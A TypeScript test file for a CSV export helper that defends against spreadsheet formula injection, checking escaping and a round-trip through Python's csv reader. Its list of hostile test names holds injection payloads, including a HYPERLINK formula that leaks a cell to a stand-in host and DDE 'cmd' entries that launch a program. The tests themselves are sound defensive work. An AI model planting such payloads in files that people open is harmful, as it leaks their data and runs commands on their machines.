/**
 * The CSV helper against formula injection (OWASP "CSV Injection"), read back by a real CSV reader
 * (Python's csv module) that then drops one leading apostrophe, as a spreadsheet shows the cell.
 */
import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLines } from './csv.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+2',
  '\r=1+2',
  '\uff1d1+2', // full-width equals sign
  "'already quoted",
  '-5',
];

const python = spawnSync('python3', ['--version']).status === 0;
if (!python) console.warn('CSV round-trip through Python skipped: python3 not found');

/** Python's csv.reader over `text`: the rows as JSON. */
function pythonRows(text: string): string[][] {
  const r = spawnSync('python3', ['-c', 'import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))'], { input: text, encoding: 'utf8' });
  expect(r.status, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as string[][];
}

describe('csvCell', () => {
  it('puts a single quote before text that a spreadsheet would run as a formula, and quotes the cell', () => {
    expect(csvCell('=1+2')).toBe(`"'=1+2"`);
    expect(csvCell("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvCell('@SUM(1)')).toBe(`"'@SUM(1)"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('judges a cell after removing its control characters: TAB or CR before a formula does not hide it', () => {
    expect(csvCell('\t=1+2')).toBe(`"'=1+2"`);
    expect(csvCell('\r\n@x')).toBe(`"'@x"`);
    expect(csvCell('ward3\x1b[2J\x07-sw\u202e')).toBe('ward3[2J-sw');
  });

  it('writes the numbers and booleans auscult computes as they are, negative ones too', () => {
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('quotes separators (comma, and semicolon for locales that use it) and doubles quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('plain name')).toBe('plain name');
  });
});

describe.skipIf(!python)('a CSV reader that drops one leading apostrophe gets the text back', () => {
  it('for every hostile name, and for names that start with an apostrophe themselves', () => {
    const text = [...csvLines(['name', 'n'], HOSTILE.map((h, i) => [h, -i]))].join('');
    const rows = pythonRows(text);
    expect(rows[0]).toEqual(['name', 'n']);
    const names = rows.slice(1).map((r) => r[0]);
    // Every cell a spreadsheet would evaluate starts with the apostrophe; numbers stay numbers.
    for (const n of names) expect(n).toMatch(/^'|^[^=+\-@\t\r\uff1d]/);
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i)));
    const back = names.map((n) => (n.startsWith("'") ? n.slice(1) : n));
    expect(back).toEqual(HOSTILE.map((h) => h.replace(/[\t\r]/g, '')));
  });
});
